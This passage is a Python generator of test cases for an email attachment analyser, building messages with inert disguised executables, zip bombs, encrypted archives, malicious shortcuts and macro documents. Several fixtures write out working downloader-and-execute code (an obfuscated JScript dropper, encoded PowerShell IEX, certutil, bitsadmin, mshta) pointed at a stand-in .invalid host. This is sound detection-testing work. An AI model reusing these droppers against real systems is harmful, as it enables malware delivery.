#!/usr/bin/env python3
"""Writes the attachment analyser's case files: messages carrying crafted, inert samples (the
"programs" are valid PE/ELF files whose code is a single `ret`; the scripts point at .invalid
hosts). Builders are in samples.py. Needs: the `zip` command (ZipCrypto), bsdtar (checks the
hand-made RAR files), mkfs.fat and mcopy (the FAT image), pip's pycdlib and py7zr, and cargo
(the MSI comes from `examples/make_msi.rs`). Run from the repository root:

    python3 crates/analyzers/cases/generate.py
"""

import base64
import gzip
import hashlib
import io
import os
import pathlib
import subprocess
import tempfile
import sys
import tarfile
import zipfile

HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
import samples  # noqa: E402

# A Windows program that imports ExitProcess and whose code is `ret`.
PE = samples.pe()
SCRIPT = b'WScript.Echo("inert test fixture");\r\n'


def zip_bytes(members, compression=zipfile.ZIP_DEFLATED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in members:
            z.writestr(name, data)
    return buf.getvalue()


def encrypted_zip(members, password):
    with tempfile.TemporaryDirectory() as d:
        for name, data in members:
            p = pathlib.Path(d, name)
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_bytes(data)
        out = pathlib.Path(d, "out.zip")
        subprocess.run(
            ["zip", "-q", "-P", password, "-r", str(out)] + [m[0] for m in members],
            cwd=d,
            check=True,
        )
        return out.read_bytes()


def message(subject, body, attachments):
    parts = [
        "From: Accounts <accounts@vendor.example>",
        "To: Bob <bob@corp.example>",
        f"Subject: {subject}",
        "Date: Mon, 23 Nov 2026 01:00:00 +0000",
        "Message-ID: <a1@vendor.example>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="B"',
        "",
        "--B",
        "Content-Type: text/plain; charset=utf-8",
        "",
        body,
    ]
    for name, ctype, data in attachments:
        encoded = base64.encodebytes(data).decode().strip()
        parts += [
            "--B",
            f'Content-Type: {ctype}; name="{name}"',
            "Content-Transfer-Encoding: base64",
            f'Content-Disposition: attachment; filename="{name}"',
            "",
            encoded,
        ]
    parts += ["--B--", ""]
    return "\n".join(parts)


def write(name, directives, msg):
    (HERE / f"{name}.case").write_text(directives.strip() + "\n\n" + msg)


ZIP = "application/zip"

write("zip_with_disguised_executable", """
# invoice.zip > docs/invoice.pdf.exe, and a "photo" that is a program.
expect: ARCHIVE_EXECUTABLE at attachment invoice.zip > docs/invoice.pdf.exe
expect: ARCHIVE_EXECUTABLE at attachment invoice.zip > photo.jpg
expect: FILETYPE_DISGUISED_EXECUTABLE at attachment invoice.zip > photo.jpg
expect-not: ARCHIVE_ENCRYPTED ARCHIVE_BOMB ARCHIVE_DAMAGED
""", message("Invoice 4471", "Please find the invoice attached.",
             [("invoice.zip", ZIP, zip_bytes([("docs/invoice.pdf.exe", PE), ("photo.jpg", PE)]))]))

inner = [("payload.js", SCRIPT)]
write("encrypted_zip_password_in_body", """
# Encrypted so a gateway cannot look inside, the password for the victim in the body.
expect: ARCHIVE_ENCRYPTED at attachment scan.zip
expect: ARCHIVE_PASSWORD_IN_MESSAGE at attachment scan.zip
expect: ARCHIVE_EXECUTABLE at attachment scan.zip > payload.js
expect-not: ARCHIVE_UNOPENED
""", message("Scanned documents", "The documents are protected.\nThe archive password is Q7x9p4 (case sensitive).",
             [("scan.zip", ZIP, encrypted_zip(inner, "Q7x9p4"))]))

write("encrypted_zip_password_korean", """
# 암호 in Korean: the same trick.
expect: ARCHIVE_PASSWORD_IN_MESSAGE at attachment 견적서.zip
expect: ARCHIVE_EXECUTABLE at attachment 견적서.zip > payload.js
""", message("견적서 송부", "견적서를 보내드립니다.\n압축 암호: 8812",
             [("견적서.zip", ZIP, encrypted_zip(inner, "8812"))]))

write("encrypted_zip_unopened", """
# No password anywhere: the content stays unknown, but the member's name is visible.
expect: ARCHIVE_ENCRYPTED
expect: ARCHIVE_UNOPENED at attachment scan.zip > payload.js
expect: ARCHIVE_EXECUTABLE at attachment scan.zip > payload.js
expect-not: ARCHIVE_PASSWORD_IN_MESSAGE
""", message("Scanned documents", "See attachment.",
             [("scan.zip", ZIP, encrypted_zip(inner, "kT8#vv21"))]))

write("encrypted_zip_configured_password", """
# Opened with a configured password ("infected", the malware-sharing convention).
expect: ARCHIVE_ENCRYPTED
expect: ARCHIVE_EXECUTABLE at attachment sample.zip > payload.js
expect-not: ARCHIVE_PASSWORD_IN_MESSAGE ARCHIVE_UNOPENED
""", message("Sample", "Sample attached.",
             [("sample.zip", ZIP, encrypted_zip(inner, "infected"))]))

write("zip_bomb", """
# 20 MiB of zeros in a few kilobytes.
expect: ARCHIVE_BOMB at attachment report.zip > report.txt
expect-risk: medium
""", message("Report", "Report attached.",
             [("report.zip", ZIP, zip_bytes([("report.txt", bytes(20 << 20))]))]))

nested = zip_bytes([("payload.js", SCRIPT)])
for level in range(17):
    nested = zip_bytes([(f"level{level}.zip", nested)])
write("nested_zip_too_deep", """
# Archives nested eighteen deep: the walk stops at the limit (16) and says so.
expect: ARCHIVE_TOO_DEEP
expect-risk: medium
expect-not: ARCHIVE_EXECUTABLE
""", message("Files", "Files attached.", [("files.zip", ZIP, nested)]))

write("damaged_zip", """
expect: ARCHIVE_DAMAGED at attachment broken.zip
""", message("Files", "Files attached.", [("broken.zip", ZIP, b"PK\x03\x04" + os.urandom(0) + b"\x14\x00not really a zip")]))

known = b"This stands for a file the intelligence feed knows as malicious.\n"
(HERE / "known-bad.txt").write_text(
    "# Test list for the known_bad_hash and engines_agree cases (sha256, then a name).\n"
    f"{hashlib.sha256(known).hexdigest()} Test.KnownBad\n"
    f"{hashlib.sha256(PE).hexdigest()} Test.KnownBadProgram\n"
)
write("known_bad_hash", """
expect: HASH_KNOWN_BAD at attachment invoice.zip > notes.txt
config: [analyzers.attachments]
config: known_bad_hashes = "../analyzers/cases/known-bad.txt"
""", message("Invoice", "Invoice attached.",
             [("invoice.zip", ZIP, zip_bytes([("notes.txt", known)]))]))

write("engines_agree", """
# A program dressed as a PDF whose hash is also on the known-bad list: two engines (our
# analysers, the hash list) call the same object malicious.
expect: ENGINES_AGREE at attachment report.zip > report.pdf
expect: HASH_KNOWN_BAD at attachment report.zip > report.pdf
expect: FILETYPE_DISGUISED_EXECUTABLE at attachment report.zip > report.pdf
expect-risk: high
config: [analyzers.attachments]
config: known_bad_hashes = "../analyzers/cases/known-bad.txt"
""", message("Report", "Report attached.",
             [("report.zip", ZIP, zip_bytes([("report.pdf", PE), ("notes.txt", b"minutes")]))]))

write("member_limit", """
# A budget reached: the rest is not analysed, and that is said.
expect: ANALYZER_LIMIT
config: [analyzers.attachments]
config: max_members = 2
""", message("Files", "Files attached.",
             [("many.zip", ZIP, zip_bytes([(f"f{i}.txt", b"x") for i in range(5)]))]))

write("gzip_disguised_executable", """
expect: FILETYPE_DISGUISED_EXECUTABLE at attachment report.pdf.gz > report.pdf
expect: ARCHIVE_EXECUTABLE at attachment report.pdf.gz > report.pdf
""", message("Report", "Report attached.",
             [("report.pdf.gz", "application/gzip", gzip.compress(PE))]))

write("declared_image_is_archive", """
# Declared a JPEG, the bytes are a zip holding a script.
expect: FILETYPE_DECLARED_MISMATCH at attachment holiday.jpg
expect: ARCHIVE_EXECUTABLE at attachment holiday.jpg > run.js
""", message("Photos", "Photos from the trip.",
             [("holiday.jpg", "image/jpeg", zip_bytes([("run.js", SCRIPT)]))]))

write("declared_octet_stream_zip", """
# A zip sent as application/octet-stream or application/zip is declared honestly enough.
expect-not: FILETYPE_DECLARED_MISMATCH
""", message("Files", "Files attached.",
             [("files.bin", "application/octet-stream", zip_bytes([("a.txt", b"hello")])),
              ("files.zip", ZIP, zip_bytes([("b.txt", b"hello")]))]))

write("clean_zip", """
# Ordinary documents in a zip: nothing to say.
expect-not: ARCHIVE_EXECUTABLE ARCHIVE_ENCRYPTED ARCHIVE_BOMB ARCHIVE_TOO_DEEP ARCHIVE_DAMAGED FILETYPE_DISGUISED_EXECUTABLE HASH_KNOWN_BAD ANALYZER_LIMIT ARCHIVE_UNOPENED
""", message("Minutes", "Minutes attached.",
             [("minutes.zip", ZIP, zip_bytes([("minutes.pdf", b"%PDF-1.4\n% inert\n"), ("notes.txt", b"Agenda: budget.\n")]))]))


# --- Issue 6, part 2: every archive format, programs, shortcuts, installers, scripts ---------

def tar_bytes(members, mode="w"):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1790000000
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def bsdtar_check(data, names):
    """The hand-made RAR files must list the same way in libarchive."""
    with tempfile.NamedTemporaryFile(suffix=".rar") as f:
        f.write(data)
        f.flush()
        listed = subprocess.run(["bsdtar", "-tf", f.name], capture_output=True, text=True, check=True).stdout.split()
    assert listed == names, (listed, names)


INJECTOR = samples.pe(samples.INJECTOR_IMPORTS)
DOWNLOADER = samples.pe(samples.DOWNLOADER_IMPORTS, strings=b"Software\\Microsoft\\Windows\\CurrentVersion\\Run\0")
URL = "http://invoice-cdn.invalid/update/stage2.bin"

write("zip_invoice_pdf_exe_injector", """
# The issue's first sample: invoice.zip holding invoice.pdf.exe, a tiny PE with injection imports.
expect: ARCHIVE_EXECUTABLE at attachment invoice.zip > invoice.pdf.exe
expect: PE_INJECTION_IMPORTS at attachment invoice.zip > invoice.pdf.exe
expect: PE_UNSIGNED at attachment invoice.zip > invoice.pdf.exe
expect: ATTACH_DOUBLE_EXTENSION at attachment invoice.zip > invoice.pdf.exe
expect-not: PE_MALFORMED PE_PACKED FILETYPE_DISGUISED_EXECUTABLE
expect-risk: high
""", message("Invoice 4471", "Please find the invoice attached.",
             [("invoice.zip", ZIP, zip_bytes([("invoice.pdf.exe", INJECTOR)]))]))

write("pe_downloader_persistence", """
# URLDownloadToFile with WinExec, and a Run key written with... no RegSetValueEx: not persistence.
expect: PE_DOWNLOADER_IMPORTS at attachment update.zip > update.exe
expect-not: PE_PERSISTENCE PE_INJECTION_IMPORTS
""", message("Update", "Run the update.",
             [("update.zip", ZIP, zip_bytes([("update.exe", DOWNLOADER)]))]))

write("pe_persistence_keylogger", """
expect: PE_PERSISTENCE at attachment tool.zip > tool.exe
expect: PE_KEYLOGGER_IMPORTS at attachment tool.zip > tool.exe
""", message("Tool", "Tool attached.",
             [("tool.zip", ZIP, zip_bytes([("tool.exe", samples.pe(
                 (("advapi32.dll", ["RegSetValueExW", "CreateServiceW"]),
                  ("user32.dll", ["SetWindowsHookExW", "GetAsyncKeyState"])),
                 strings="Software\\Microsoft\\Windows\\CurrentVersion\\Run".encode("utf-16-le")))]))]))

write("pe_packed", """
# UPX section names and a code section of random bytes (entropy near 8).
expect: PE_PACKED at attachment setup.zip > setup.exe
""", message("Setup", "Setup attached.",
             [("setup.zip", ZIP, zip_bytes([("setup.exe", samples.pe(
                 (("kernel32.dll", ["LoadLibraryA", "GetProcAddress", "ExitProcess"]),),
                 sections=[(b"UPX0", 0xE0000080, b""), (b"UPX1", 0xE0000040, samples.high_entropy(16384, 1))]))]))]))

write("pe_dotnet_overlay", """
# A .NET program with 4 KiB appended after its last section.
expect: PE_DOTNET at attachment loader.zip > loader.exe
expect: PE_OVERLAY at attachment loader.zip > loader.exe
""", message("Loader", "Loader attached.",
             [("loader.zip", ZIP, zip_bytes([("loader.exe", samples.pe(dotnet=True, overlay=samples.high_entropy(4096, 2)))]))]))

write("pe_signed_intact", """
# An Authenticode digest that matches the file: no complaint about the signature.
expect-not: PE_SIGNATURE_INVALID PE_UNSIGNED PE_MALFORMED PE_OVERLAY
""", message("Tool", "Signed tool attached.",
             [("signed.zip", ZIP, zip_bytes([("signed.exe", samples.sign(PE))]))]))

write("pe_signed_tampered", """
# The same signature after one byte of code changed.
expect: PE_SIGNATURE_INVALID at attachment signed.zip > signed.exe
expect-not: PE_UNSIGNED
""", message("Tool", "Signed tool attached.",
             [("signed.zip", ZIP, zip_bytes([("signed.exe", samples.sign(PE, tamper=True))]))]))

write("pe_sideloading", """
# A signed-looking program beside a version.dll: the side-loading kit.
expect: PE_SIDELOADING_DLL at attachment viewer.zip > version.dll
""", message("Viewer", "Viewer attached.",
             [("viewer.zip", ZIP, zip_bytes([("viewer.exe", PE), ("version.dll", samples.pe(dll=True))]))]))

write("pe_malformed", """
# MZ and a PE signature, then the file ends inside the optional header.
expect: PE_MALFORMED at attachment broken.zip > broken.exe
""", message("Files", "Files attached.",
             [("broken.zip", ZIP, zip_bytes([("broken.exe", PE[:0x70])]))]))

write("elf_in_tar_gz", """
# A Linux and a macOS program in a .tar.gz.
expect: EXECUTABLE_UNIX at attachment tools.tar.gz > tools.tar > bin/agent
expect: EXECUTABLE_UNIX at attachment tools.tar.gz > tools.tar > bin/agent-mac
expect: ARCHIVE_EXECUTABLE at attachment tools.tar.gz > tools.tar > bin/agent
expect-not: FILETYPE_DISGUISED_EXECUTABLE
""", message("Tools", "Tools attached.",
             [("tools.tar.gz", "application/gzip", gzip.compress(tar_bytes([("bin/agent", samples.elf()), ("bin/agent-mac", samples.macho())]), mtime=0))]))

write("tar_bz2_and_xz", """
# bzip2 and xz around tar, each holding a program.
expect: ARCHIVE_EXECUTABLE at attachment a.tar.bz2 > a.tar > a/setup.exe
expect: ARCHIVE_EXECUTABLE at attachment b.tar.xz > b.tar > b/setup.exe
""", message("Files", "Files attached.",
             [("a.tar.bz2", "application/x-bzip2", tar_bytes([("a/setup.exe", PE)], "w:bz2")),
              ("b.tar.xz", "application/x-xz", tar_bytes([("b/setup.exe", PE)], "w:xz"))]))

write("sevenz_program", """
expect: ARCHIVE_EXECUTABLE at attachment order.7z > order.exe
expect: PE_INJECTION_IMPORTS at attachment order.7z > order.exe
expect-not: ARCHIVE_ENCRYPTED ARCHIVE_DAMAGED
""", message("Order", "Order attached.",
             [("order.7z", "application/x-7z-compressed", samples.sevenz([("order.exe", INJECTOR)]))]))

write("sevenz_encrypted_password_in_body", """
# AES-encrypted 7z, names encrypted too, the password in the body.
expect: ARCHIVE_ENCRYPTED at attachment order.7z
expect: ARCHIVE_PASSWORD_IN_MESSAGE at attachment order.7z
expect: ARCHIVE_EXECUTABLE at attachment order.7z > order.js
expect-not: ARCHIVE_UNOPENED
""", message("Order", "Password: 7734",
             [("order.7z", "application/x-7z-compressed", samples.sevenz([("order.js", SCRIPT)], password="7734", header_encryption=True))]))

write("sevenz_encrypted_unopened", """
expect: ARCHIVE_ENCRYPTED at attachment order.7z
expect: ARCHIVE_UNOPENED at attachment order.7z > order.js
expect: ARCHIVE_EXECUTABLE at attachment order.7z > order.js
""", message("Order", "See attachment.",
             [("order.7z", "application/x-7z-compressed", samples.sevenz([("order.js", SCRIPT)], password="Zq81!x"))]))

rar_stored = samples.rar5([("docs/invoice.exe", INJECTOR, 0), ("readme.txt", b"hello", 0)])
bsdtar_check(rar_stored, ["docs/invoice.exe", "readme.txt"])
write("rar5_stored_program", """
# A RAR 5 with stored members: unpacked and analysed.
expect: ARCHIVE_EXECUTABLE at attachment invoice.rar > docs/invoice.exe
expect: PE_INJECTION_IMPORTS at attachment invoice.rar > docs/invoice.exe
expect-not: ARCHIVE_LISTED_ONLY ARCHIVE_DAMAGED
""", message("Invoice", "Invoice attached.", [("invoice.rar", "application/vnd.rar", rar_stored)]))

rar_compressed = samples.rar5([("payment.scr", samples.high_entropy(300, 3), 3)])
bsdtar_check(rar_compressed, ["payment.scr"])
write("rar5_compressed_listed", """
# A compressed RAR 5 member: listed, not decoded; its name still gives it away.
expect: ARCHIVE_LISTED_ONLY at attachment payment.rar
expect: ARCHIVE_EXECUTABLE at attachment payment.rar > payment.scr
""", message("Payment", "Payment attached.", [("payment.rar", "application/vnd.rar", rar_compressed)]))

rar_old = samples.rar4([("report.pdf.exe", PE)])
bsdtar_check(rar_old, ["report.pdf.exe"])
write("rar4_stored_program", """
expect: ARCHIVE_EXECUTABLE at attachment report.rar > report.pdf.exe
""", message("Report", "Report attached.", [("report.rar", "application/x-rar-compressed", rar_old)]))

write("cab_program", """
expect: ARCHIVE_EXECUTABLE at attachment update.cab > update.exe
expect-not: ARCHIVE_DAMAGED
""", message("Update", "Update attached.",
             [("update.cab", "application/vnd.ms-cab-compressed", samples.cab([("update.exe", PE), ("notes.txt", b"notes")]))]))

ENCODED = samples.powershell_encoded(f"IEX (New-Object Net.WebClient).DownloadString('{URL}')")
SHORTCUT = samples.lnk(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                       f"-NoProfile -WindowStyle Hidden -enc {ENCODED}",
                       icon=r"C:\Program Files\Microsoft\Edge\Application\msedge.exe")
write("iso_with_lnk_encoded_powershell", """
# The issue's ISO sample: an ISO holding a shortcut that runs powershell -enc.
expect: DISK_IMAGE at attachment Invoice_4471.iso
expect: ARCHIVE_EXECUTABLE at attachment Invoice_4471.iso > Invoice_4471.pdf.lnk
expect: LNK_RUNS_INTERPRETER at attachment Invoice_4471.iso > Invoice_4471.pdf.lnk
expect: LNK_HIDDEN_ARGUMENTS at attachment Invoice_4471.iso > Invoice_4471.pdf.lnk
expect: SCRIPT_ENCODED_COMMAND at attachment Invoice_4471.iso > Invoice_4471.pdf.lnk > command line > -EncodedCommand
expect: SCRIPT_DOWNLOADER at attachment Invoice_4471.iso > Invoice_4471.pdf.lnk > command line > -EncodedCommand
expect-risk: high
""", message("Invoice 4471", "Invoice attached.",
             [("Invoice_4471.iso", "application/octet-stream", samples.iso([("Invoice_4471.pdf.lnk", SHORTCUT)]))]))

write("udf_image_with_lnk", """
# The same shortcut in a UDF image with no ISO 9660 tree.
expect: DISK_IMAGE at attachment scan.img
expect: LNK_RUNS_INTERPRETER at attachment scan.img > scan.pdf.lnk
expect-not: ARCHIVE_DAMAGED
""", message("Scan", "Scan attached.",
             [("scan.img", "application/octet-stream", samples.udf_only([("scan.pdf.lnk", SHORTCUT)]))]))

write("fat_image_carved", """
# A FAT floppy image: its files are carved by signature.
expect: DISK_IMAGE at attachment disk.img
expect: LNK_RUNS_INTERPRETER
""", message("Disk", "Disk attached.",
             [("disk.img", "application/octet-stream", samples.fat_image([("SCAN.LNK", SHORTCUT)]))]))

JS_DROPPER = ("var a=[" + ",".join(str(ord(c)) for c in "MSXML2.XMLHTTP") + "];\n"
              "var n='';for(var i=0;i<a.length;i++){n+=String.fromCharCode(a[i]);}\n"
              "var x=new ActiveXObject(n);x.open('GET','" + URL + "',false);x.send();\n"
              "var s=new ActiveXObject('ADODB.Stream');s.Open();s.Type=1;s.Write(x.responseBody);\n"
              "s.SaveToFile('C:\\\\Users\\\\Public\\\\u.exe',2);\n"
              "var w=new ActiveXObject('W'+'S'+'c'+'r'+'i'+'p'+'t'+'.'+'S'+'h'+'e'+'l'+'l'+'');\n"
              "eval('w.Run(\"C:\\\\\\\\Users\\\\\\\\Public\\\\\\\\u.exe\")');eval(n);\n" + "".join(f"var v{i}=String.fromCharCode({i+65});\n" for i in range(12)))
write("js_obfuscated_downloader", """
# The issue's JS sample: obfuscated, downloads from an unresolvable host and runs it.
expect: ARCHIVE_EXECUTABLE at attachment doc.zip > doc.js
expect: SCRIPT_OBFUSCATED at attachment doc.zip > doc.js
expect: SCRIPT_DOWNLOADER at attachment doc.zip > doc.js
expect: SCRIPT_EXECUTES at attachment doc.zip > doc.js
expect-risk: high
""", message("Document", "Document attached.",
             [("doc.zip", ZIP, zip_bytes([("doc.js", JS_DROPPER.encode())]))]))

write("vbs_certutil_lolbin", """
expect: SCRIPT_LOLBIN at attachment invoice.vbs
expect: SCRIPT_EXECUTES at attachment invoice.vbs
""", message("Invoice", "Invoice attached.",
             [("invoice.vbs", "text/vbscript", b'Set sh = CreateObject("WScript.Shell")\r\nsh.Run "certutil -urlcache -split -f ' + URL.encode() + b' %TEMP%\\\\a.exe", 0\r\n')]))

write("batch_bitsadmin", """
expect: SCRIPT_LOLBIN at attachment setup.zip > setup.cmd
""", message("Setup", "Setup attached.",
             [("setup.zip", ZIP, zip_bytes([("setup.cmd", b"@echo off\r\nbitsadmin /transfer j " + URL.encode() + b" %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n")]))]))

write("hta_mshta", """
expect: SCRIPT_EXECUTES at attachment update.zip > update.hta
expect: SCRIPT_LOLBIN at attachment update.zip > update.hta
""", message("Update", "Update attached.",
             [("update.zip", ZIP, zip_bytes([("update.hta", b'<html><head><hta:application/><script language="VBScript">CreateObject("WScript.Shell").Run "mshta ' + URL.encode() + b'"</script></head></html>')]))]))

write("powershell_script_downloader", """
expect: SCRIPT_DOWNLOADER at attachment fix.zip > fix.ps1
expect: SCRIPT_OBFUSCATED at attachment fix.zip > fix.ps1
""", message("Fix", "Fix attached.",
             [("fix.zip", ZIP, zip_bytes([("fix.ps1", ("$u=('ht'+'tp://invoice-cdn.invalid/a.ps1');$c=(New-Object Net.WebClient).DownloadString($u);" + "I`E`X -join ($c[-1..-($c.Length)])\r\n").encode())]))]))

write("wsf_script", """
expect: SCRIPT_EXECUTES at attachment run.wsf
""", message("Run", "Run attached.",
             [("run.wsf", "application/octet-stream", b'<job><script language="JScript">new ActiveXObject("WScript.Shell").Run("calc");</script></job>')]))

write("chm_with_script", """
expect: CHM_FILE at attachment manual.chm
expect: SCRIPT_EXECUTES at attachment manual.chm > index.htm
expect: SCRIPT_LOLBIN at attachment manual.chm > index.htm
""", message("Manual", "Manual attached.",
             [("manual.chm", "application/vnd.ms-htmlhelp", samples.chm([("/index.htm", b'<html><script>var s=new ActiveXObject("WScript.Shell");s.Run("mshta ' + URL.encode() + b'");</script></html>')]))]))

with tempfile.TemporaryDirectory() as d:
    out = pathlib.Path(d, "setup.msi")
    subprocess.run(["cargo", "run", "-q", "-p", "mailmoat-analyzers", "--example", "make_msi", "--", str(out)], check=True)
    MSI = out.read_bytes()
write("msi_custom_action_script", """
expect: MSI_CUSTOM_ACTION at attachment setup.msi > CustomAction CheckLicense
expect: SCRIPT_EXECUTES at attachment setup.msi > CustomAction CheckLicense
expect: SCRIPT_DOWNLOADER at attachment setup.msi > CustomAction CheckLicense
""", message("Setup", "Setup attached.", [("setup.msi", "application/x-msi", MSI)]))

write("base64_blob_holds_program", """
# A script carrying a program as a base64 literal: the blob is decoded and walked.
expect: SCRIPT_OBFUSCATED at attachment drop.zip > drop.js
expect: PE_INJECTION_IMPORTS at attachment drop.zip > drop.js > base64 blob 1
""", message("Drop", "Drop attached.",
             [("drop.zip", ZIP, zip_bytes([("drop.js", b"var p='" + base64.b64encode(INJECTOR) + b"';\nvar f=new ActiveXObject('Scripting.FileSystemObject');\n")]))]))

write("time_budget", """
# No time at all: the analysis stops at once and says so; the message goes on.
expect: ANALYZER_TIMEOUT
expect-not: ARCHIVE_EXECUTABLE
config: [analyzers.attachments]
config: time_budget_ms = 0
""", message("Files", "Files attached.",
             [("files.zip", ZIP, zip_bytes([("a.exe", PE)]))]))

write("object_size_limit", """
# A member larger than the per-object limit is not unpacked.
expect: ANALYZER_LIMIT at attachment big.zip > big.bin
expect-not: ARCHIVE_BOMB
config: [analyzers.attachments]
config: max_object_bytes = 100000
""", message("Files", "Files attached.",
             [("big.zip", ZIP, zip_bytes([("big.bin", samples.high_entropy(150000, 4))]))]))

write("clean_text_script_and_tar", """
# A harmless script and a tar of documents: nothing beyond the file type.
expect-not: SCRIPT_OBFUSCATED SCRIPT_DOWNLOADER SCRIPT_LOLBIN SCRIPT_ENCODED_COMMAND ARCHIVE_EXECUTABLE ARCHIVE_DAMAGED
""", message("Scripts", "Build helper attached.",
             [("docs.tar", "application/x-tar", tar_bytes([("docs/a.txt", b"hello"), ("docs/b.pdf", b"%PDF-1.4\n")])),
              ("sum.js", "application/javascript", b"var total = 0;\nfor (var i = 0; i < 10; i++) { total += i; }\nWScript.Echo(total);\n")]))


# --- Issue 7: documents --------------------------------------------------------------------------

with tempfile.TemporaryDirectory() as d:
    subprocess.run(["cargo", "run", "-q", "-p", "mailmoat-analyzers", "--example", "make_documents", "--", d], check=True)
    DOCS = {p.name: p.read_bytes() for p in pathlib.Path(d).iterdir()}
# The VBA writer is checked by oletools' olevba, when installed (pip install oletools).
try:
    with tempfile.NamedTemporaryFile(suffix=".bin") as f:
        f.write(DOCS["vbaProject.bin"])
        f.flush()
        out = subprocess.run(["olevba", f.name], capture_output=True, text=True).stdout
        assert "AutoOpen" in out and "Shell" in out, out
except FileNotFoundError:
    print("olevba not installed: the VBA project is not cross-checked")

CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
      '<Default Extension="xml" ContentType="application/xml"/>'
      '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
      '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
      '</Types>')
ROOT_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
             '</Relationships>')


def document_xml(body):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
            + body + '</w:body></w:document>')


def docx(parts, body="<w:p><w:r><w:t>Please see the attached quotation.</w:t></w:r></w:p>"):
    members = [("[Content_Types].xml", CT.encode()), ("_rels/.rels", ROOT_RELS.encode()),
               ("word/document.xml", document_xml(body).encode())]
    return zip_bytes(members + parts)


DOCM = docx([("word/vbaProject.bin", DOCS["vbaProject.bin"])])
DOCX_MIME = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

write("docm_autoopen_shell", """
# The issue's .docm: AutoOpen calls Shell on a harmless string.
expect: VBA_MACRO at attachment invoice.docm
expect: VBA_AUTORUN at attachment invoice.docm > Module1
expect: VBA_SUSPICIOUS_CALLS at attachment invoice.docm > Module1
expect: VBA_AUTORUN_EXECUTES at attachment invoice.docm
expect-not: VBA_STOMPED VBA_OBFUSCATED
expect-risk: high
""", message("Invoice 4471", "Please enable editing to see the invoice.",
             [("invoice.docm", "application/vnd.ms-word.document.macroEnabled.12", DOCM)]))

write("zip_docm_module_path", """
# The path a report shows: invoice.zip > invoice.docm > Module1.
expect: VBA_AUTORUN at attachment invoice.zip > invoice.docm > Module1
expect: VBA_AUTORUN_EXECUTES at attachment invoice.zip > invoice.docm
""", message("Invoice 4471", "Invoice attached.",
             [("invoice.zip", ZIP, zip_bytes([("invoice.docm", DOCM)]))]))

write("vba_obfuscated", """
# Document_Open with its strings built from Chr() codes and reversed.
expect: VBA_OBFUSCATED at attachment notice.docm > Module1
expect: VBA_AUTORUN at attachment notice.docm > Module1
expect: VBA_AUTORUN_EXECUTES at attachment notice.docm
expect-risk: high
""", message("Notice", "Notice attached.",
             [("notice.docm", "application/vnd.ms-word.document.macroEnabled.12", docx([("word/vbaProject.bin", DOCS["obfuscated.bin"])]))]))

write("doc97_macro", """
# A Word 97 document with the project under Macros/.
expect: VBA_AUTORUN at attachment order.doc > Module1
expect: VBA_AUTORUN_EXECUTES at attachment order.doc
""", message("Order", "Order attached.", [("order.doc", "application/msword", DOCS["macro.doc"])]))

write("vba_stomped", """
# The source says MsgBox; the p-code still names Shell and WScript.Shell.
expect: VBA_STOMPED at attachment report.docm > Module1
expect-not: VBA_SUSPICIOUS_CALLS
""", message("Report", "Report attached.",
             [("report.docm", "application/vnd.ms-word.document.macroEnabled.12", docx([("word/vbaProject.bin", DOCS["stomped.bin"])]))]))

XLSM_CT = CT.replace("/word/document.xml", "/xl/workbook.xml")
xlsm = zip_bytes([
    ("[Content_Types].xml", XLSM_CT.encode()),
    ("_rels/.rels", ROOT_RELS.replace("word/document.xml", "xl/workbook.xml").encode()),
    ("xl/workbook.xml", b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Macro1" sheetId="1" state="veryHidden" r:id="rId1"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>'),
    ("xl/macrosheets/sheet1.xml", b'<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>'),
])
write("xlsm_xlm_macro_sheet", """
# The issue's XLM sample: a very hidden Excel 4.0 macro sheet that runs on open and calls EXEC.
expect: XLM_MACRO_SHEET at attachment budget.xlsm > xl/macrosheets/sheet1.xml
expect: XLM_EXECUTES at attachment budget.xlsm > xl/macrosheets/sheet1.xml
expect: XLM_EXECUTES at attachment budget.xlsm
expect-risk: high
""", message("Budget", "Budget attached.", [("budget.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", xlsm)]))

write("xls_hidden_macro_sheet", """
# Excel 97: a very hidden Excel 4.0 macro sheet found in the BIFF records.
expect: XLM_MACRO_SHEET at attachment budget.xls > Macro1
""", message("Budget", "Budget attached.", [("budget.xls", "application/vnd.ms-excel", DOCS["xlm.xls"])]))

write("office_encrypted", """
expect: OFFICE_ENCRYPTED at attachment salary.docx
""", message("Salary", "The password is 5521.", [("salary.docx", DOCX_MIME, DOCS["encrypted.docx"])]))

TEMPLATE_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
